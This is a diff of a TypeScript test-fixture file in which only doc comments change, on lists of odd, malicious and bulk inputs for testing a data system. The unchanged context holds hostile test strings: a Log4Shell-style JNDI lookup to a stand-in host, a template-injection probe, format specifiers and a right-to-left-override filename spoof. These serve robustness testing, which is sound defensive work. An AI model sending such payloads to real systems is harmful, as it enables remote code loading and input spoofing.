@@ -12,7 +12,7 @@ const nasty: readonly string[] = [
   '\u0024{jndi:ldap://elsewhere.invalid/a} {{7*7}} %s %n',
   'line one\r\nline two\u0000end\u2028\u202Egnp.exe',
 ];
-/** Read by lake.md as numbers; the others are not plain decimals. */
+/** Texts that the lake's rules read as numbers; the others are not plain decimals. */
 const plainNumbers: readonly string[] = ['-12.5', '1e6', ' 42 ', '0.10'];
 const oddNumbers: readonly string[] = [
   '1,234.5',
@@ -27,7 +27,7 @@ const oddNumbers: readonly string[] = [
   '½',
 ];
 
-/** Odd or malicious, mostly valid by the letter of the interface. */
+/** Odd or malicious, but mostly valid by the letter of the interface. */
 export const hostileRecipes = {
   'path-like-ids': {
     description: 'ids that are paths, of an initiative, a survey and a value record',
@@ -113,7 +113,7 @@ export const hostileRecipes = {
   },
 } as const satisfies Record<string, Recipe>;
 
-/** Valid, but of a size that finds what does not scale; only by name, never in `'all'`. */
+/** Valid, but large enough to reveal what does not scale; only by name, never part of `'all'`. */
 export const bulkRecipes = {
   'wide-table': {
     description: 'one table of 1,000 rows and 50 columns',
@@ -167,7 +167,7 @@ function wideTable(ids: Ids): object {
   );
 }
 
-/** All of one tracker, as no real survey is: what grows is the count of records. */
+/** Records of a single tracker, unlike any real survey, so that only the number of records grows. */
 function* manyRecords(ids: Ids, count: number): Generator<unknown> {
   for (let n = 2; n < count; n++) yield utrv(ids, n, { universalTrackerId: ids.tracker(2 + (n % 400)) });
 }
